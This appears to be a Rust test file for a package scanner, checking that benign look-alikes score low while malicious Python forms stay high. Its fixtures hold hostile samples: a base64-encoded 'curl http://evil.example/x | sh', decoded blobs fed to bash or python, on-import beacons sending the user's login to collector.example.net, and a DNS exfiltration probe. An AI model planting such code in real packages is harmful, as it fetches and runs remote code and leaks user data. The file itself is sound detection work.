//! False positives of issue #12, third round (a wider benign draw): each
//! benign look-alike next to the malicious form that must stay high. The
//! look-alikes imitate what popular projects ship: a token turned to text
//! with `.decode("ascii")` after `b64encode`, a telemetry sender kept in a
//! string and started by a function, a word list downloaded on import,
//! `urlopen('')` to warm a library up, data scripts below an imported
//! `examples` package.

mod support;

use support::*;

use airlock_inspect::Severity;
use Severity::{Critical, High, Medium};

fn max(report: &airlock_inspect::Report, rule: &str) -> Option<Severity> {
    report.findings.iter().filter(|f| f.rule == rule).map(|f| f.severity).max()
}

// ---------------------------------------------------------------- payload/exec-decoded: encoders are no decoders

#[test]
fn a_command_given_an_encoded_argument_or_a_random_token_is_no_decoded_payload() {
    let r = module(
        r#"import base64, codecs, os, subprocess
def run_js(source):
    js = 'var c = atob("%s");' % base64.b64encode(source.encode('utf-8')).decode('ascii')
    return subprocess.check_output(['node', '-e', js])
def spawn(port):
    token = codecs.encode(os.urandom(32), "hex").decode("ascii")
    subprocess.Popen(["adapter", "--port", str(port), "--token", token])
"#,
    );
    none(&r, "payload/exec-decoded");
}

#[test]
fn a_command_decoded_from_a_blob_stays_critical() {
    let r = module(
        r#"import base64, zlib, subprocess
def run():
    subprocess.Popen(base64.b64decode("Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==").decode(), shell=True)
def run2(blob):
    subprocess.run(zlib.decompressobj().decompress(blob).decode(), shell=True)
"#,
    );
    assert_eq!(hits(&r, "payload/exec-decoded", MOD), [(3, Critical), (5, Critical)]);
}

#[test]
fn decoded_data_only_filling_a_named_program_arguments_is_medium() {
    let r = module(
        r#"import base64, json, subprocess
def identity(bundle, repo):
    statement = json.loads(base64.b64decode(json.loads(bundle.read_text())["payload"]))
    source = statement["predicate"]["commit"]
    return subprocess.check_output(["gh", "api", f"repos/{repo}/commits/{source}/statuses"], text=True)
"#,
    );
    assert_eq!(hits(&r, "payload/exec-decoded", MOD), [(5, Medium)]);
}

#[test]
fn decoded_data_given_to_an_interpreter_a_launcher_or_a_shell_stays_critical() {
    for program in ["python3", "cmd", "bash"] {
        let r = module(&format!("import base64, subprocess\ndef run(blob):\n    subprocess.run([\"{program}\", \"-c\", base64.b64decode(blob).decode()])\n"));
        assert_eq!(hits(&r, "payload/exec-decoded", MOD), [(3, Critical)], "{program}");
    }
    let r = module("import base64, subprocess\ndef run(blob):\n    subprocess.run([\"gh\", base64.b64decode(blob).decode()], shell=True)\n");
    assert_eq!(hits(&r, "payload/exec-decoded", MOD), [(3, Critical)]);
}

// ---------------------------------------------------------------- Python kept in a string runs where the string is run

const SENDER: &str = r#"import subprocess, sys
_SENDER = """
import json, sys
import requests
payload = json.load(sys.stdin)
requests.post(payload["url"], json=payload["body"], timeout=10)
"""
def _spawn_sender(payload):
    process = subprocess.Popen([sys.executable, "-c", _SENDER], stdin=subprocess.PIPE)
"#;

#[test]
fn code_in_a_string_that_only_an_uncalled_function_runs_does_not_run_on_import() {
    let r = module(SENDER);
    let worst = max(&r, "access/network-on-install");
    assert!(worst.is_none_or(|s| s < High), "{:?}", r.findings);
}

#[test]
fn code_in_a_string_run_at_the_top_level_or_by_a_function_it_calls_runs_on_import() {
    let r = module(&format!("{SENDER}_spawn_sender({{}})\n"));
    assert_eq!(max(&r, "access/network-on-install"), Some(High), "{:?}", r.findings);
    let r = module(&format!("{SENDER}exec(_SENDER)\n"));
    assert_eq!(max(&r, "access/network-on-install"), Some(High), "{:?}", r.findings);
    // Handed on through another name, the string may run anywhere.
    let r = module(&format!("{SENDER}code = _SENDER\nexec(code)\n"));
    assert_eq!(max(&r, "access/network-on-install"), Some(High), "{:?}", r.findings);
}

// ---------------------------------------------------------------- access/network-on-install: data fetched on import

const WORD_LIST: &str = r#"import urllib.request
from pathlib import Path
URLS = {"names": "https://raw.example.org/acme-data/master/names.txt"}
def download(name):
    path = Path.home() / ".acme" / "names.txt"
    urllib.request.urlretrieve(URLS[name], path)
def load(name):
    with open(Path.home() / ".acme" / "names.txt") as f:
        return set(f.read().split())
download("names")
"#;

#[test]
fn a_module_caching_a_word_list_on_import_is_medium() {
    let r = module(WORD_LIST);
    assert_eq!(hits(&r, "access/network-on-install", MOD), [(6, Medium)]);
    let r = module("import requests\nREADME = requests.get('https://raw.example.org/acme/main/README.md').text\nHEADER = '# Generated by gen.py'\n");
    assert_eq!(hits(&r, "access/network-on-install", MOD), [(2, Medium)]);
}

#[test]
fn a_module_fetching_a_program_running_it_or_beaconing_on_import_stays_high() {
    // The download saved as a program, or started.
    let r = module(&WORD_LIST.replace("names.txt", "names.exe"));
    assert_eq!(hits(&r, "access/network-on-install", MOD), [(6, High)]);
    let r = module(&format!("{WORD_LIST}import subprocess\nsubprocess.call([str(Path.home() / '.acme' / 'names.txt')])\n"));
    assert_eq!(hits(&r, "access/network-on-install", MOD), [(6, High)]);
    // Over plain http, or the answer thrown away (a beacon), or data sent along.
    let r = module(&WORD_LIST.replace("https://", "http://"));
    assert_eq!(hits(&r, "access/network-on-install", MOD), [(6, High)]);
    let r = module("import requests\nrequests.get('https://collector.example.net/log')\n");
    assert_eq!(hits(&r, "access/network-on-install", MOD), [(2, High)]);
    let r = module("import requests, os\nr = requests.get('https://collector.example.net/log', params={'user': os.getlogin()})\n");
    assert_eq!(max(&r, "access/network-on-install"), Some(High), "{:?}", r.findings);
    let r = module("import requests\nfrom acme import state\nr = requests.get(\n    'https://collector.example.net/log',\n    data=state,\n)\n");
    assert_eq!(hits(&r, "access/network-on-install", MOD), [(3, High)]);
    // A probe: the machine's public address, or a download beside a host name sent by DNS.
    let r = module("import httpx\nip = httpx.get('https://api.ipify.org').text\n");
    assert_eq!(hits(&r, "access/network-on-install", MOD), [(2, High)]);
    let r = module("import requests, socket\nr = requests.get('https://intranet.example.com/')\nsocket.gethostbyname(f'{r.status_code}.{socket.gethostname()}.probe.example.net')\n");
    assert_eq!(hits(&r, "access/network-on-install", MOD), [(2, High)]);
    // The same download from setup.py is a build step, judged as such.
    let r = setup_py(WORD_LIST);
    assert_eq!(hits(&r, "access/network-on-install", SETUP), [(6, High)]);
}

#[test]
fn urlopen_of_an_empty_address_reaches_no_host() {
    let r = module("from urllib import request\ndef warm():\n    try:\n        request.urlopen('')\n    except Exception:\n        pass\nwarm()\n");
    none(&r, "access/network-on-install");
    let r = module("from urllib import request\ndef warm():\n    request.urlopen('https://collector.example.net/')\nwarm()\n");
    assert_eq!(hits(&r, "access/network-on-install", MOD), [(3, High)]);
}

// ---------------------------------------------------------------- scripts below an imported examples package

const DATA_SCRIPT: &str = "import os\nos.system('wget https://data.example.org/model.bin -O /tmp/model.bin')\n";

#[test]
fn a_script_in_a_plain_folder_below_an_imported_examples_package_runs_when_a_person_runs_it() {
    let r = wheel(&[
        ("acme/__init__.py", ""),
        ("acme/tasks.py", "from examples.speech import decoder\n"),
        ("acme/examples/__init__.py", ""),
        ("acme/examples/speech/__init__.py", ""),
        ("acme/examples/speech/decoder.py", "def decode(x):\n    return x\n"),
        ("acme/examples/translation/data_scripts/fetch.py", DATA_SCRIPT),
    ]);
    let worst = max(&r, "access/process-on-install");
    assert!(worst.is_none_or(|s| s < High), "{:?}", r.findings);
}

#[test]
fn a_module_of_an_imported_examples_package_still_runs_on_import() {
    let r = wheel(&[
        ("acme/__init__.py", ""),
        ("acme/tasks.py", "from examples.speech import decoder\n"),
        ("acme/examples/__init__.py", ""),
        ("acme/examples/speech/__init__.py", ""),
        ("acme/examples/speech/decoder.py", DATA_SCRIPT),
    ]);
    assert_eq!(hits(&r, "access/process-on-install", "acme/examples/speech/decoder.py"), [(2, High)]);
}
